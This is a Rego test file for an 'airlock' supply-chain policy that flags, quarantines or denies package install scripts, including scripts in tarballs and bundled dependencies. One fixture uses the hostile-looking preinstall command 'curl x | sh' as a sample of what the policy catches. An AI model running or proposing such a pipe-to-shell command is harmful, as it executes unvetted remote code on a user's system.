package airlock_test

import rego.v1

scripted := with_facts({"has_install_script": true, "install_scripts": {"postinstall": "node setup.js"}})

test_install_scripts_warn_by_default if {
	some f in data.airlock.warn with input as scripted
	f.id == "install_scripts"
	contains(f.msg, "postinstall")
	count(data.airlock.quarantine) == 0 with input as scripted
}

test_install_scripts_quarantine_mode if {
	"install_scripts" in ids(data.airlock.quarantine) with input as scripted with data.airlock.settings as with_settings({"install_scripts": "quarantine"})
}

test_install_scripts_deny_mode if {
	"install_scripts" in ids(data.airlock.deny) with input as scripted with data.airlock.settings as with_settings({"install_scripts": "deny"})
}

test_trusted_package_may_run_scripts if {
	count(data.airlock.quarantine) == 0 with input as scripted with data.airlock.settings as with_settings({"install_scripts": "quarantine", "install_scripts_allowed": ["left-pad"]})
}

test_scripts_found_in_the_tarball_count if {
	tarball_scripts := object.union(with_facts({}), {"phase": "artifact", "facts": object.union(base_input.facts, {"tarball": {"size": 100, "install_scripts": {"preinstall": "curl x | sh"}}})})
	some f in data.airlock.quarantine with input as tarball_scripts with data.airlock.settings as with_settings({"install_scripts": "quarantine"})
	f.id == "install_scripts"
	contains(f.msg, "preinstall")
}

test_allow_mode_is_silent if {
	not "install_scripts" in ids(data.airlock.warn) with input as scripted with data.airlock.settings as with_settings({"install_scripts": "allow"})
}

test_scripts_of_bundled_packages_count if {
	bundled := object.union(with_facts({}), {"phase": "artifact", "facts": object.union(base_input.facts, {"tarball": {"size": 100, "install_scripts": {}, "bundled_install_script_count": 1, "bundled_install_scripts": {"node_modules/inner": {"postinstall": "node setup.js"}}}})})
	some f in data.airlock.quarantine with input as bundled with data.airlock.settings as with_settings({"install_scripts": "quarantine"})
	f.id == "install_scripts"
	contains(f.msg, "(postinstall in node_modules/inner)")
}

test_bundled_scripts_beyond_the_listed_ones_still_count if {
	bundled := object.union(with_facts({}), {"phase": "artifact", "facts": object.union(base_input.facts, {"tarball": {"size": 100, "install_scripts": {}, "bundled_install_script_count": 70, "bundled_install_scripts": {}}})})
	"install_scripts" in ids(data.airlock.quarantine) with input as bundled with data.airlock.settings as with_settings({"install_scripts": "quarantine"})
}
